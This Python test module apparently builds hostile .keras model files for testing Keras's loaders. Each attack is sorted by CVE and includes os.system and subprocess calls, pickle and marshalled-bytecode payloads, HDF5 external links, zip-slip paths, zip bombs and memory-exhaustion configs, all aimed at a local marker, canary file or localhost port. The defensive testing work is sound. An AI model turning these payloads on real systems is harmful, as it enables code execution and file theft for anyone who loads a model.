"""Makes files that attack whoever opens them, one or more for every known weakness of Keras's formats: `python -m tests.faults.hostile FOLDER`.

They are harmless: what they try is to write a marker, to read a canary, or to connect to a port, all of them in the folder or on this machine.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import pickle
import socket
import stat
import sys
import warnings
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import h5py
import numpy as np

Config = dict[str, Any]
FEATURES, UNITS = 4, 3


@dataclass(frozen=True)
class Traps:
    """What an attack that works would leave: a marker that is written, a canary that is read, a port that is connected to."""

    folder: Path
    port: int
    bomb: int = 2**30
    """How many bytes a packed member unpacks to."""

    @property
    def marker(self) -> Path:
        """The file that must never be there."""
        return self.folder / "marker"

    @property
    def canary(self) -> Path:
        """The file that must never be read."""
        return self.folder / "canary"

    def lay(self) -> None:
        """Put the canary there; a file that was not read for so long notes when it is."""
        self.canary.write_bytes(b"secret that nobody may read" * 8)
        os.utime(self.canary, (0, self.canary.stat().st_mtime))

    @property
    def is_untouched(self) -> bool:
        """Whether nothing was written and nothing read, since it was laid."""
        return not self.marker.exists() and self.canary.stat().st_atime == 0

    @property
    def url(self) -> str:
        """The address that must never be asked."""
        return f"http://127.0.0.1:{self.port}/words.txt"


# A good model, part by part.


def entry(kind: str, name: str, module: str | None = "keras.layers", /, registered: str | None = None, build: Any = None, **config: Any) -> Config:
    """A layer, or anything else, as Keras writes it."""
    built = {"build_config": {"input_shape": build}} if build else {}
    return {"module": module, "class_name": kind, "config": {"name": name, **config}, "registered_name": registered} | built


def dense(**config: Any) -> Config:
    """A dense layer."""
    return entry("Dense", "dense", build=[None, FEATURES], **{"units": UNITS, "activation": "linear", **config})


def model(*layers: Config, **more: Any) -> Config:
    """A Sequential model of these layers."""
    start = entry("InputLayer", "input", batch_shape=[None, FEATURES], dtype="float32")
    return entry("Sequential", "model", "keras", layers=[start, *layers], build_input_shape=[None, FEATURES]) | more


def weights(change: Callable[[h5py.File], object] | None = None) -> bytes:
    """The weights of the good model, and what `change` does to them."""
    data = io.BytesIO()
    with h5py.File(data, "w") as file:
        group = file.create_group("layers/dense/vars")
        group["0"], group["1"] = np.ones((FEATURES, UNITS), "float32"), np.zeros(UNITS, "float32")
        if change:
            change(file)
    return data.getvalue()


def write(path: Path, config: Any = None, h5: bytes | None = None, extra: dict[str, bytes] | None = None, packed: int = zipfile.ZIP_STORED) -> Path:
    """A `.keras` file; `config` is an object or the bytes themselves."""
    text = config if isinstance(config, bytes) else json.dumps(model(dense()) if config is None else config).encode()
    with zipfile.ZipFile(path, "w", packed) as file, warnings.catch_warnings(action="ignore"):
        file.writestr("metadata.json", '{"keras_version": "3.15.1", "date_saved": "2026-11-21@10:00:00"}')
        file.writestr("config.json", text)
        file.writestr("model.weights.h5", weights() if h5 is None else h5)
        for name, member in (extra or {}).items():
            file.writestr(name, member)
    return path


# What the attacks are made of.


def code(traps: Traps) -> Config:
    """Python byte code that writes the marker, as a Lambda layer keeps it."""
    function = eval(f"lambda x: (open({str(traps.marker)!r}, 'w').close(), x)[1]")
    return {"class_name": "__lambda__", "config": {"code": base64.b64encode(marshal.dumps(function.__code__)).decode(), "defaults": None, "closure": None}}


def lambda_layer(traps: Traps, **more: Any) -> Config:
    """A Lambda layer with that code."""
    return entry("Lambda", "code", function=code(traps), arguments={}, **more)


def function(name: str, module: str = "builtins", registered: str | None = "function") -> Config:
    """A function by its name."""
    return {"module": module, "class_name": "function", "config": name, "registered_name": registered}


def called(module: str, name: str, /, *args: Any, **kwargs: Any) -> Config:
    """A class or function of any module in the place of a layer, called with these arguments."""
    calls = {"name": "called", "inbound_nodes": [{"args": list(args), "kwargs": kwargs}]}
    return {"module": module, "class_name": name, "config": {**kwargs, "name": "called"}, "registered_name": None} | calls


class _Pickled:
    """What a pickle runs when it is read."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> Any:
        return open, (str(self.marker), "w")


# The attacks, by the advisory that they belong to: each a name and what makes the file.

Made = Iterator[tuple[str, Any]]


def code_in_the_configuration(traps: Traps) -> Made:
    """CVE-2024-3660: byte code, wherever an object may stand."""
    evil, layer = code(traps), lambda_layer(traps)
    yield "layer", model(layer)
    yield "old-style", model(entry("Lambda", "code", function=[evil["config"]["code"], None, None], function_type="lambda", module="os"))
    yield "other-home", model({**layer, "module": "keras.src.layers.core.lambda_layer"})
    yield "no-home", model({**layer, "module": None})
    yield "registered", model({**layer, "registered_name": "Custom>Lambda"})
    yield "nested", model(model(layer), dense())
    yield "nested-deep", model(model(model(model(layer))), dense())
    for wrapper in ("TimeDistributed", "Bidirectional", "Wrapper", "SpectralNormalization"):
        yield f"in-{wrapper}", model(entry(wrapper, "wrapper", layer=layer))
    yield "cell", model(entry("RNN", "rnn", cell=layer))
    yield "cells", model(entry("RNN", "rnn", cell=entry("StackedRNNCells", "cells", cells=[layer])))
    yield "pipeline", model(entry("Pipeline", "pipeline", layers=[layer]))
    for argument in ("activation", "kernel_initializer", "bias_regularizer", "kernel_constraint", "dtype"):
        yield f"as-{argument}", model(dense(**{argument: evil}))
    for part in ("loss", "metrics", "optimizer", "loss_weights"):
        yield f"in-training-{part}", model(dense(), compile_config={part: [evil]})
    yield "in-training-of-a-part", model(model(dense(), compile_config={"loss": evil}))
    yield "in-call", model(dense() | {"inbound_nodes": [{"args": [evil], "kwargs": {}}]})
    yield "in-build", model(dense() | {"build_config": {"input_shape": evil}})
    yield "standardize", model(entry("TextVectorization", "words", standardize=evil))
    yield "split", model(entry("TextVectorization", "words", split={**layer}))


def any_function(traps: Traps) -> Made:
    """CVE-2025-1550: classes and functions of any module."""
    touch = f"touch {traps.marker}"
    for module, name, arguments in (
        ("os", "system", {"command": touch}),
        ("posix", "system", {"command": touch}),
        ("os", "mkdir", {"path": str(traps.marker)}),
        ("subprocess", "Popen", {"args": ["touch", str(traps.marker)]}),
        ("subprocess", "check_output", {"args": ["touch", str(traps.marker)]}),
        ("builtins", "eval", {"source": f"open({str(traps.marker)!r}, 'w')"}),
        ("builtins", "exec", {"source": f"open({str(traps.marker)!r}, 'w')"}),
        ("builtins", "open", {"file": str(traps.marker), "mode": "w"}),
        ("pathlib", "Path", {"args": str(traps.marker)}),
        ("shutil", "copyfile", {"src": str(traps.canary), "dst": str(traps.marker)}),
        ("importlib", "import_module", {"name": "antigravity"}),
        ("pickle", "loads", {"data": base64.b64encode(pickle.dumps(_Pickled(traps.marker))).decode()}),
        ("urllib.request", "urlopen", {"url": traps.url}),
        ("numpy", "fromfile", {"file": str(traps.canary)}),
        ("tensorflow", "io.write_file", {"filename": str(traps.marker), "contents": "x"}),
        ("h5py", "File", {"name": str(traps.marker), "mode": "w"}),
    ):
        yield f"{module}.{name}", model(called(module, name, **arguments))
    yield "activation", model(entry("Activation", "act", activation=function("system", "os", "system")))
    yield "activation-by-name", model(entry("Activation", "act", activation="os.system"))
    yield "initializer", model(dense(kernel_initializer={"module": "os", "class_name": "system", "config": {"command": touch}, "registered_name": None}))
    yield "loss", model(dense(), compile_config={"loss": function("system", "os", "system")})
    yield "metric", model(dense(), compile_config={"metrics": [{"module": "subprocess", "class_name": "Popen", "config": {"args": ["true"]}}]})
    yield "registered-as-kerass", model({**called("os", "system", command=touch), "registered_name": "keras>Dense"})


def kerass_own_functions(traps: Traps) -> Made:
    """CVE-2025-8747 and CVE-2025-9906: functions of Keras itself that write, fetch, or switch the protection off."""
    for module, name, arguments in (
        ("keras.utils", "get_file", {"fname": str(traps.marker), "origin": traps.url}),
        ("keras.src.utils.file_utils", "get_file", {"fname": str(traps.marker), "origin": traps.url}),
        ("keras.saving", "load_model", {"filepath": str(traps.canary), "safe_mode": False}),
        ("keras.models", "load_model", {"filepath": str(traps.canary), "safe_mode": False}),
        ("keras.config", "enable_unsafe_deserialization", {}),
        ("keras.src.backend.common.global_state", "set_global_attribute", {"key": "safe_mode_saving", "value": False}),
        ("keras.utils", "image_dataset_from_directory", {"directory": str(traps.folder)}),
        ("keras.callbacks", "CSVLogger", {"filename": str(traps.marker)}),
        ("keras.src.saving.saving_lib", "save_model", {"filepath": str(traps.marker)}),
        ("keras.export", "ExportArchive", {}),
    ):
        yield f"{module}.{name}", model(called(module, name, **arguments))
        yield f"{module}.{name}-function", model(entry("Activation", "act", activation=function(name, module, "function")))
    unlocked = called("keras.config", "enable_unsafe_deserialization")
    yield "unlocked-then-code", model(unlocked, lambda_layer(traps))


def words_from_elsewhere(traps: Traps) -> Made:
    """CVE-2025-12058 and CVE-2025-12060: vocabularies that are files or addresses, and downloads that unpack."""
    for kind in ("StringLookup", "IntegerLookup", "TextVectorization"):
        for where in (str(traps.canary), traps.url, f"file://{traps.canary}", "gs://bucket/words.txt"):
            yield f"{kind}-{where.partition(':')[0].rpartition('/')[2]}", model(entry(kind, "lookup", vocabulary=where))
    yield "nested", model(model(entry("StringLookup", "lookup", vocabulary=str(traps.canary))))
    yield "weights-of-words", model(entry("StringLookup", "lookup", vocabulary=["a"], idf_weights=str(traps.canary)))
    yield "relative", model(entry("StringLookup", "lookup", vocabulary="../canary"))
    yield "tar", model(called("keras.utils", "get_file", origin=traps.url, extract=True, archive_format="tar"))


def programs(traps: Traps) -> Made:
    """CVE-2026-1462 and CVE-2026-12481, CVE-2025-49655: layers that load programs, of TensorFlow, JAX, Flax and Torch."""
    saved = {"filepath": str(traps.folder), "call_endpoint": "serve"}
    yield "TFSMLayer", model(entry("TFSMLayer", "program", **saved))
    yield "TFSMLayer-nested", model(model(entry("TFSMLayer", "program", **saved)))
    yield "TFSMLayer-wrapped", model(entry("TimeDistributed", "wrapper", layer=entry("TFSMLayer", "program", **saved)))
    yield "TFSMLayer-other-home", model(entry("TFSMLayer", "program", "keras.src.export.tfsm_layer", **saved))
    yield "TFSMLayer-called", model(called("keras.layers", "TFSMLayer", filepath=str(traps.folder)))
    yield "TFSMLayer-function", model(entry("Activation", "act", activation=function("TFSMLayer", "keras.layers", "TFSMLayer")))
    yield "TFSMLayer-loss", model(dense(), compile_config={"loss": entry("TFSMLayer", "program", **saved)})
    yield "TFSMLayer-as-model", entry("TFSMLayer", "program", **saved)
    pickled = base64.b64encode(pickle.dumps(_Pickled(traps.marker))).decode()
    yield "Torch", model(entry("TorchModuleWrapper", "torch", module={"class_name": "__bytes__", "config": {"value": pickled}}))
    yield "Torch-no-home", model({**entry("TorchModuleWrapper", "torch"), "module": None})
    yield "Jax", model(entry("JaxLayer", "jax", call_fn=code(traps)))
    yield "Flax", model(entry("FlaxLayer", "flax", method="system"))
    spec = {"class_name": "__typespec__", "module": "os", "spec_name": "system", "registered_name": None, "config": []}
    yield "typespec", model(dense() | {"inbound_nodes": [{"args": [spec], "kwargs": {}}]})


def too_large(traps: Traps) -> Made:
    """Models that take all the memory once they are built."""
    yield "units-29", model(dense(units=2**29))
    yield "units-40", model(dense(units=2**40))
    yield "units-400", model(dense(units=10**400))
    yield "embedding", model(entry("Embedding", "words", build=[None, 4], input_dim=2**31, output_dim=2**10))
    yield "filters", model(entry("Conv2D", "conv", build=[None, 8, 8, 3], filters=2**36, kernel_size=[3, 3]))
    yield "kernel", model(entry("Conv1D", "conv", build=[None, 8, 3], filters=8, kernel_size=[2**36]))
    yield "recurrent", model(entry("LSTM", "lstm", build=[None, 8, 3], units=2**20))
    yield "wrapped", model(entry("Bidirectional", "both", build=[None, 8, 3], layer=entry("GRU", "gru", units=2**20)))
    yield "heads", model(entry("MultiHeadAttention", "heads", build=[None, 8, 2**12], num_heads=2**20, key_dim=2**12))
    yield "repeated", model(entry("RepeatVector", "repeat", build=[None, 4], n=2**40))
    yield "grown", model(entry("UpSampling2D", "up", build=[None, 8, 8, 3], size=[2**20, 2**20]))
    yield "padded", model(entry("ZeroPadding2D", "pad", build=[None, 8, 8, 3], padding=[[2**20, 2**20], [2**20, 2**20]]))
    yield "resized", model(entry("Resizing", "resize", build=[None, 8, 8, 3], height=2**20, width=2**20))
    yield "nested", model(model(entry("Embedding", "words", build=[None, 4], input_dim=2**31, output_dim=2**10)))
    yield "input", model() | {"config": {"name": "m", "layers": [entry("InputLayer", "input", batch_shape=[None, 2**40]), dense()]}}


def not_as_meant(traps: Traps) -> Made:
    """Configurations whose parts are of other kinds than Keras writes."""
    yield "units-are-words", model(dense(units="8; rm"))
    yield "class-is-a-list", model({**dense(), "class_name": ["os", "system"]})
    yield "module-is-an-object", model({**dense(), "module": {"os": "system"}})
    yield "layers-is-a-number", {**model(), "config": {"name": "m", "layers": 3}}
    yield "layers-are-words", {**model(), "config": {"name": "m", "layers": ["Dense"]}}
    yield "no-configuration", {**model(), "config": None}
    yield "no-class", {"config": {}}
    yield "unregistered", model(entry("Own", "own", "somebody.layers"))
    yield "two-names", model({**dense(), "registered_name": "evil>System"})
    yield "twice", json.dumps(model(dense())).replace('"name"', '"name": "x", "name"', 1).encode()
    yield "deep", b"[" * 200_000 + b"]" * 200_000
    yield "deep-object", b'{"a":' * 50_000 + b"1" + b"}" * 50_000
    yield "many", b'{"a": [' + b"0," * 5_000_000 + b"0]}"
    yield "not-unicode", b'{"a": "\xff\xfe"}'
    yield "no-object", b"[1]"
    yield "no-json", b"import os"
    yield "endless-text", b'{"a": "' + b'\\"' * 10_000_000


# Attacks below the configuration: in the weights, in the archive, and in what kind of file it is.


def _bare(file: h5py.File, name: str, shape: tuple[int, ...], chunks: tuple[int, ...] | None = None, **more: Any) -> None:
    """An array that is declared and never written."""
    del file["layers/dense/vars/0"]
    file.create_dataset(name, shape, "float32", chunks=chunks, **more)


def _virtual(file: h5py.File, source: Path) -> None:
    layout = h5py.VirtualLayout((FEATURES, UNITS), "float32")
    layout[:] = h5py.VirtualSource(str(source), "secret", (FEATURES, UNITS))
    del file["layers/dense/vars/0"]
    file.create_virtual_dataset("layers/dense/vars/0", layout)


def _external(file: h5py.File, source: Path) -> None:
    del file["layers/dense/vars/0"]
    file.create_dataset("layers/dense/vars/0", (FEATURES, UNITS), "float32", external=[(str(source), 0, 4 * FEATURES * UNITS)])


def _linked(file: h5py.File, link: Any, place: str = "layers/dense/vars/0") -> None:
    if place in file:
        del file[place]
    file[place] = link


def in_the_weights(traps: Traps) -> Iterator[tuple[str, bytes]]:
    """CVE-2026-1669: arrays of other files. CVE-2026-0897, CVE-2026-12570, GHSA-hqp4-2352-xf5r: arrays that declare more than there is."""
    place, here = "layers/dense/vars/0", traps.canary
    yield "external", weights(lambda file: _external(file, here))
    yield "external-link", weights(lambda file: _linked(file, h5py.ExternalLink(str(here), "/")))
    yield "external-link-of-all", weights(lambda file: _linked(file, h5py.ExternalLink(str(here), "/"), "layers"))
    yield "soft-link", weights(lambda file: _linked(file, h5py.SoftLink("/layers/dense/vars/1")))
    yield "dangling", weights(lambda file: _linked(file, h5py.SoftLink("/nowhere"), "layers/more"))
    yield "virtual", weights(lambda file: _virtual(file, here))
    yield "in-itself", weights(lambda file: _linked(file, file["layers"], "layers/dense/again"))
    yield "twice", weights(lambda file: _linked(file, file["layers/dense/vars/1"]))
    yield "4-GiB", weights(lambda file: _bare(file, place, (2**30 - 256,)))
    yield "1-EiB", weights(lambda file: _bare(file, place, (2**29, 2**29)))
    yield "chunks", weights(lambda file: _bare(file, place, (2**30 - 256,), (2**20,)))
    yield "large-chunk", weights(lambda file: _bare(file, place, (1, 1), (2**29, 1), maxshape=(None, None)))
    yield "zeros", weights(lambda file: file.create_dataset("layers/zeros", data=np.zeros(2**26, "float32"), compression="gzip"))
    yield "many", weights(lambda file: [file.create_dataset(f"layers/{n}", (2**14,), "float32") for n in range(6000)])
    yield "texts", weights(lambda file: file.create_dataset("layers/texts", data=[b"a"], dtype=h5py.string_dtype()))
    yield "references", weights(lambda file: file.create_dataset("layers/refs", data=[file.ref], dtype=h5py.ref_dtype))
    yield "notes", weights(lambda file: [file.attrs.create(f"n{n}", "x") for n in range(1500)])
    yield "deep", weights(lambda file: file.create_group("/".join("x" * 200)))
    yield "named-type", weights(lambda file: _linked(file, np.dtype("float32"), "layers/type"))
    yield "no-hdf5", b"not at all"
    yield "cut", weights()[:1000]


def in_the_archive(traps: Traps) -> Iterator[tuple[str, Callable[[Path], object]]]:
    """Bombs, doubles, ways out, and lists that lie."""
    bomb, deflated = b" " * traps.bomb, zipfile.ZIP_DEFLATED
    yield "config-bomb", lambda path: write(path, bomb, packed=deflated)
    yield "weights-bomb", lambda path: write(path, h5=bomb, packed=deflated)
    yield "other-bomb", lambda path: write(path, extra={"metadata2.json": bomb}, packed=deflated)
    yield "assets-bomb", lambda path: write(path, extra={"assets/words.txt": bomb}, packed=deflated)
    for name in ("config.json", "model.weights.h5"):
        yield f"double-{name}", lambda path, name=name: write(path, extra={name: b"{}"})
    for number, name in enumerate(("../marker", f"{traps.marker}", "..\\marker", "C:\\marker", "assets/../../marker")):
        yield f"way-out-{number}", lambda path, name=name: write(path, extra={name: b"x"})
    yield "link", lambda path: _with_link(write(path), traps.canary)
    yield "password", lambda path: _flagged(write(path))
    yield "unknown-packing", lambda path: _patched(write(path), b"PK\x01\x02", 10, b"\x63")
    yield "lying-sizes", lambda path: _patched(write(path, packed=deflated), b"PK\x01\x02", 24, b"\xff\xff\xff\x0f")
    yield "many-members", lambda path: write(path, extra={f"assets/{n}": b"" for n in range(60_000)})
    yield "no-config", lambda path: _only(path, {"model.weights.h5": weights()})
    yield "bit", lambda path: _patched(write(path), b"\x89HDF", 60, b"\xaa")
    yield "cut-short", lambda path: path.write_bytes(write(path).read_bytes()[:-60])
    yield "empty", lambda path: path.write_bytes(b"")
    yield "text", lambda path: path.write_text("my notes")
    yield "pickle", lambda path: path.write_bytes(pickle.dumps(_Pickled(traps.marker)))
    yield "python", lambda path: path.write_text(f"open({str(traps.marker)!r}, 'w')")
    yield "old-format-with-code", lambda path: _old(path, model(lambda_layer(traps)))
    yield "old-format-with-program", lambda path: _old(path, model(entry("TFSMLayer", "p", filepath=str(traps.folder))))
    yield "old-format-with-words", lambda path: _old(path, model(entry("StringLookup", "l", vocabulary=str(traps.canary))))


def of_other_kinds(traps: Traps) -> Iterator[tuple[str, Callable[[Path], object]]]:
    """What is no regular file."""
    yield "folder", lambda path: path.mkdir()
    if os.name != "nt":
        yield "link", lambda path: path.symlink_to(write(traps.folder / "good.keras"))
        yield "endless", lambda path: path.symlink_to("/dev/zero")
        yield "pipe", lambda path: os.mkfifo(path)
        yield "socket", lambda path: _socket(path)


def make(traps: Traps) -> dict[str, Path]:
    """Write every file; by its attack's name."""
    files: dict[str, Path] = {}
    traps.lay()
    for attack in (code_in_the_configuration, any_function, kerass_own_functions, words_from_elsewhere, programs, too_large, not_as_meant):
        for name, config in attack(traps):
            files[f"{attack.__name__}: {name}"] = write(_path(traps, len(files)), config)
    for name, h5 in in_the_weights(traps):
        files[f"in_the_weights: {name}"] = write(_path(traps, len(files)), h5=h5)
    for attack in (in_the_archive, of_other_kinds):
        for name, put in attack(traps):
            path = files[f"{attack.__name__}: {name}"] = _path(traps, len(files))
            put(path)
    return files


def _path(traps: Traps, number: int) -> Path:
    return traps.folder / f"{number:03d}.keras"


def _only(path: Path, members: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w") as file:
        for name, data in members.items():
            file.writestr(name, data)


def _with_link(path: Path, target: Path) -> None:
    info = zipfile.ZipInfo("assets/words.txt")
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(path, "a") as file:
        file.writestr(info, str(target))


def _flagged(path: Path) -> None:
    """Say that the members have a password."""
    _patched(path, b"PK\x01\x02", 8, b"\x01")


def _patched(path: Path, after: bytes, offset: int, data: bytes) -> None:
    """Other bytes at a distance from each mark."""
    whole = bytearray(path.read_bytes())
    place = whole.find(after)
    while place >= 0:
        whole[place + offset : place + offset + len(data)] = data
        place = whole.find(after, place + 1)
    path.write_bytes(whole)


def _old(path: Path, config: Config) -> None:
    """A whole model in the older format, HDF5."""
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = json.dumps(config)
        file.create_group("model_weights")


def _socket(path: Path) -> None:
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(str(path))


if __name__ == "__main__":
    made = make(Traps(Path(sys.argv[1]), 9))
    print(f"{len(made)} files in {sys.argv[1]}")
